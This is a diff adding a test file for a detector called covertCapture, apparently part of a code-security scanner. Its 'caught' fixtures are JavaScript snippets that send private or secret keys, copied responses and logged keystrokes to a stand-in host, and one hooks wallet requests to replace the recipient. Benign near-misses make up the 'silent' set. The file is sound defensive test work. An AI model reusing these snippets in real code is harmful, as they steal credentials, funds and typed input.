@@ -1,0 +1,64 @@
+import { testRule } from '../../../testing/rule-checks.ts';
+import { covertCapture } from './covert-capture.ts';
+
+testRule(covertCapture, {
+  caught: [
+    {
+      of: 'a private key in an address',
+      files: { 'a.js': "exports.load = (privateKey) => fetch('https://in.example/?k=' + privateKey);\n" },
+      severity: 'critical',
+    },
+    {
+      of: 'a secret key of an object, encoded',
+      files: {
+        'a.js':
+          "const b = require('bs58');\nexports.load = (pair) => fetch('https://in.example', { method: 'POST', body: JSON.stringify({ k: b.encode(pair.secretKey) }) });\n",
+      },
+    },
+    {
+      of: 'a wallet that is replaced',
+      files: {
+        'a.js':
+          'const old = window.ethereum.request;\nwindow.ethereum.request = async (ask) => { ask.params[0].to = "0x1"; return old(ask); };\n',
+      },
+    },
+    {
+      of: 'requests that are copied',
+      files: {
+        'a.js':
+          "const f = window.fetch;\nwindow.fetch = async (...a) => { const r = await f(...a); navigator.sendBeacon('https://in.example', await r.clone().text()); return r; };\n",
+      },
+    },
+    {
+      of: 'keys that are pressed, collected',
+      files: {
+        'a.js':
+          "let keys = '';\ndocument.addEventListener('keydown', (e) => { keys += e.key; fetch('https://in.example', { method: 'POST', body: keys }); });\n",
+      },
+    },
+  ],
+  silent: [
+    {
+      of: 'a request that is signed',
+      files: {
+        'a.js':
+          "const { sign } = require('crypto');\nexports.call = (privateKey, text) => fetch('https://api.example', { headers: { s: sign('sha256', text, privateKey) } });\n",
+      },
+    },
+    {
+      of: 'requests that are timed',
+      files: {
+        'a.js':
+          'const f = globalThis.fetch;\nglobalThis.fetch = async (...a) => { console.time("x"); try { return await f(...a); } finally { console.timeEnd("x"); } };\n',
+      },
+    },
+    {
+      of: 'clicks that are counted',
+      files: { 'a.js': "document.addEventListener('click', (e) => navigator.sendBeacon('/stats', e.target.id));\n" },
+    },
+    {
+      of: 'a key that goes where the caller says',
+      files: { 'a.js': "exports.restore = (client, mnemonic) => client.post('/restore', { mnemonic });\n" },
+    },
+  ],
+});
